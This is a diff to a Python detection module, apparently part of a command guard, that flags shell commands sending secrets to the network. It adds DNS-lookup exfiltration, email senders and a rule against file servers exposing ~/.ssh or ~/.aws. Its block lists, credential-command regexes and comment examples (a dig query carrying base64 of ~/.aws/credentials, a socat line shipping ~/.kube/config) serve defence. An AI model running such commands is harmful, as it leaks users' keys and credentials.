@@ -21,7 +21,7 @@ _STDIN_SENDERS = {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "pastebi
 # Programs that hand the files on their line to someone else (a code phrase, a link), and their verbs.
 _FILE_SENDERS = {"croc", "wormhole", "magic-wormhole", "ffsend", "onionshare", "onionshare-cli", "portal", "sendme",
                  "transfer", "wsend", "pastebinit", "imgur", "0x0", "dropbox_uploader", "dropbox_uploader.sh",
-                 "ipfs", "w3", "sharing"}
+                 "ipfs", "w3", "sharing", "swaks", "sendemail", "mpack", "neomutt"}
 _SEND_WORDS = {"send", "upload", "share", "put", "push", "add", "tx", "file", "files"}
 # Programs that send files named on their line to the network.
 _SENDERS = {"curl", "wget", "http", "https", "xh", "httpie", "curlie", "scp", "sftp", "rsync", "rclone", "aws",
@@ -33,10 +33,10 @@ _COPIERS = {"scp", "sftp", "rsync", "rclone", "aws", "gsutil", "smbclient", "lft
 # Commands whose output is secret.
 _SECRET_OUTPUT = re.compile(
     r"^(env|printenv|set|export\s+-p|declare\s+-x|history|fc\s+-l|gpg\s+.*--export-secret|"
-    r"aws\s+configure\s+(export-credentials|get)|aws\s+sts\s+get-session-token|gcloud\s+auth\s+.*print-\w*token|"
+    r"aws\s+configure\s+(export-credentials|get)|aws\s+sts\s+get-session-token|gcloud\s+auth\s+.*print-[\w-]*token|"
     r"az\s+account\s+get-access-token|kubectl\s+config\s+view\s+.*--raw|kubectl\s+get\s+secrets?\b.*-o|"
     r"security\s+(find-generic-password|find-internet-password|dump-keychain)|pass\s+(show\s+)?\S|"
-    r"vault\s+(kv\s+get|read)|op\s+(read|item\s+get)|gh\s+auth\s+token|cat\s+/proc/\d+/environ|"
+    r"vault\s+(kv\s+get|read)|op\s+(read|item\s+get)|gh\s+auth\s+token|cat\s+/proc/(\d+|self|\$\$)/environ|"
     r"doppler\s+secrets|heroku\s+config|keepassxc-cli\s+(show|export)|bw\s+(get|export))\b")
 # Commands that print the clipboard, which often holds a password a manager copied there.
 _CLIPBOARD_READ = re.compile(r"^(pbpaste|wl-paste|xclip\s+.*-o\b|xclip\s+-o|xsel\s+(.*\s)?-(o|-output|[a-z]*o)\b|"
@@ -149,7 +149,7 @@ def _named_files(c: Ctx) -> list:
         files += [t for t in texts if not t.startswith("-") and not re.match(r"^([\w.-]+@)?[\w.-]+:|^\w+://", t)
                   and t not in ("cp", "sync", "copy", "copyto", "s3", "mv", "move")]
     if c.prog in _FILE_SENDERS:  # `croc send FILE`, `wormhole send FILE`, `ffsend upload FILE`: every operand goes
-        files += [t for t in texts if not t.startswith("-") and t not in _SEND_WORDS]
+        files += [t.lstrip("@") for t in texts if not t.startswith("-") and t not in _SEND_WORDS]
     if c.prog == "socat":  # socat FILE:~/.kube/config TCP:host:port
         files += [re.sub(r",.*$", "", t.split(":", 1)[1]) for t in texts
                   if re.match(r"^(FILE|OPEN|GOPEN|READ|CREATE):", t, re.IGNORECASE)]
@@ -182,7 +182,7 @@ def _reads_stdin(c: Ctx) -> bool:
 
 def rule_exfiltration(c: Ctx) -> Optional[tuple]:
     """A network sender whose payload is secret: named on its line, redirected in, or piped in."""
-    if c.prog.lower() not in _SENDERS:
+    if c.prog.lower() not in _SENDERS and c.prog not in _LOOKUPS:
         return None
     found = _in_substitutions(c.args)
     copies = c.prog in _COPIERS  # to a host the user names: only keys and credentials count, not a whole home
@@ -216,4 +216,26 @@ def rule_tcp_redirect(seg) -> Optional[tuple]:
             f"sends {'keys or credentials' if found == 'high' else 'secrets'} to another machine over /dev/tcp")
 
 
-RULES: dict = {p: [rule_exfiltration] for p in _SENDERS}
+def rule_serves_secrets(c: Ctx) -> Optional[tuple]:
+    """``python3 -m http.server --directory ~/.ssh``, ``miniserve ~/.aws``: a file server handing keys to
+    anyone who asks."""
+    texts = c.texts
+    if c.prog.startswith("python") and not ("-m" in texts and "http.server" in texts):
+        return None
+    if c.prog == "php" and "-S" not in texts:
+        return None
+    served = [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("--directory", "-d", "-t", "--root", "-h")]
+    if c.prog not in ("php",) and not c.prog.startswith("python"):
+        served += [t for t in texts if not t.startswith("-")]
+    for path in served:
+        found = _secret_path(Word(path, path, has_var="$" in path))
+        if found == "high" or found and target(Word(path, path)).kind == "dot-critical":
+            return HIGH, f"{c.prog} serves {path} to the network: keys or credentials for anyone who asks ({c.text})"
+    return None
+
+
+# Programs that only look a name up: the name itself carries data (`dig $(base64 -w0 ~/.aws/credentials).x.example`).
+_LOOKUPS = {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath"}
+RULES: dict = {p: [rule_exfiltration] for p in _SENDERS | _LOOKUPS}
+for _p in ("python", "python3", "php", "miniserve", "http-server", "updog", "woof", "darkhttpd", "serve"):
+    RULES.setdefault(_p, []).append(rule_serves_secrets)
